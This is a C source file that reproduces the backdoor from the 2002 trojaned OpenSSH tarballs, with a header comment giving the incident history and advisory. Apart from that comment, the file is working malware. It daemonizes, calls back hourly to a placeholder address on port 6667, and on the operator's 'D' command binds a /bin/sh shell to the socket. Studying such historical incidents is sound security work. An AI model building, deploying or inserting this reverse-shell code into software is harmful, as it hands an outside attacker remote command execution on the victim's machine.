/*
 * Incident: trojaned OpenSSH 3.4p1 / 3.2.2p1 / 3.4 source tarballs on ftp.openbsd.org,
 * 30 July - 1 August 2002 (CERT CA-2002-24). The modified Makefile.in compiled and started
 * this "test" program while the victim built OpenSSH; it connected to a fixed address on
 * port 6667 and, on the operator's command, gave them a shell as the building user.
 * Reference: https://www.openssh.com/txt/trojan.adv
 * Reproduction (own code, placeholder address).
 */
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in sa;
	char cmd;
	int s;

	signal(SIGHUP, SIG_IGN);
	if (fork() != 0)
		exit(0);
	setsid();

	for (;;) {
		memset(&sa, 0, sizeof(sa));
		sa.sin_family = AF_INET;
		sa.sin_port = htons(6667);
		sa.sin_addr.s_addr = inet_addr("203.0.113.32");
		s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			if (s >= 0)
				close(s);
			sleep(3600);
			continue;
		}
		if (read(s, &cmd, 1) != 1)
			cmd = 'M';
		switch (cmd) {
		case 'A':	/* abort: go away for good */
			close(s);
			exit(0);
		case 'D':	/* drop a shell on the socket */
			dup2(s, 0);
			dup2(s, 1);
			dup2(s, 2);
			execl("/bin/sh", "sh", (char *)NULL);
			exit(0);
		default:	/* 'M': check back in an hour */
			close(s);
			sleep(3600);
		}
	}
}
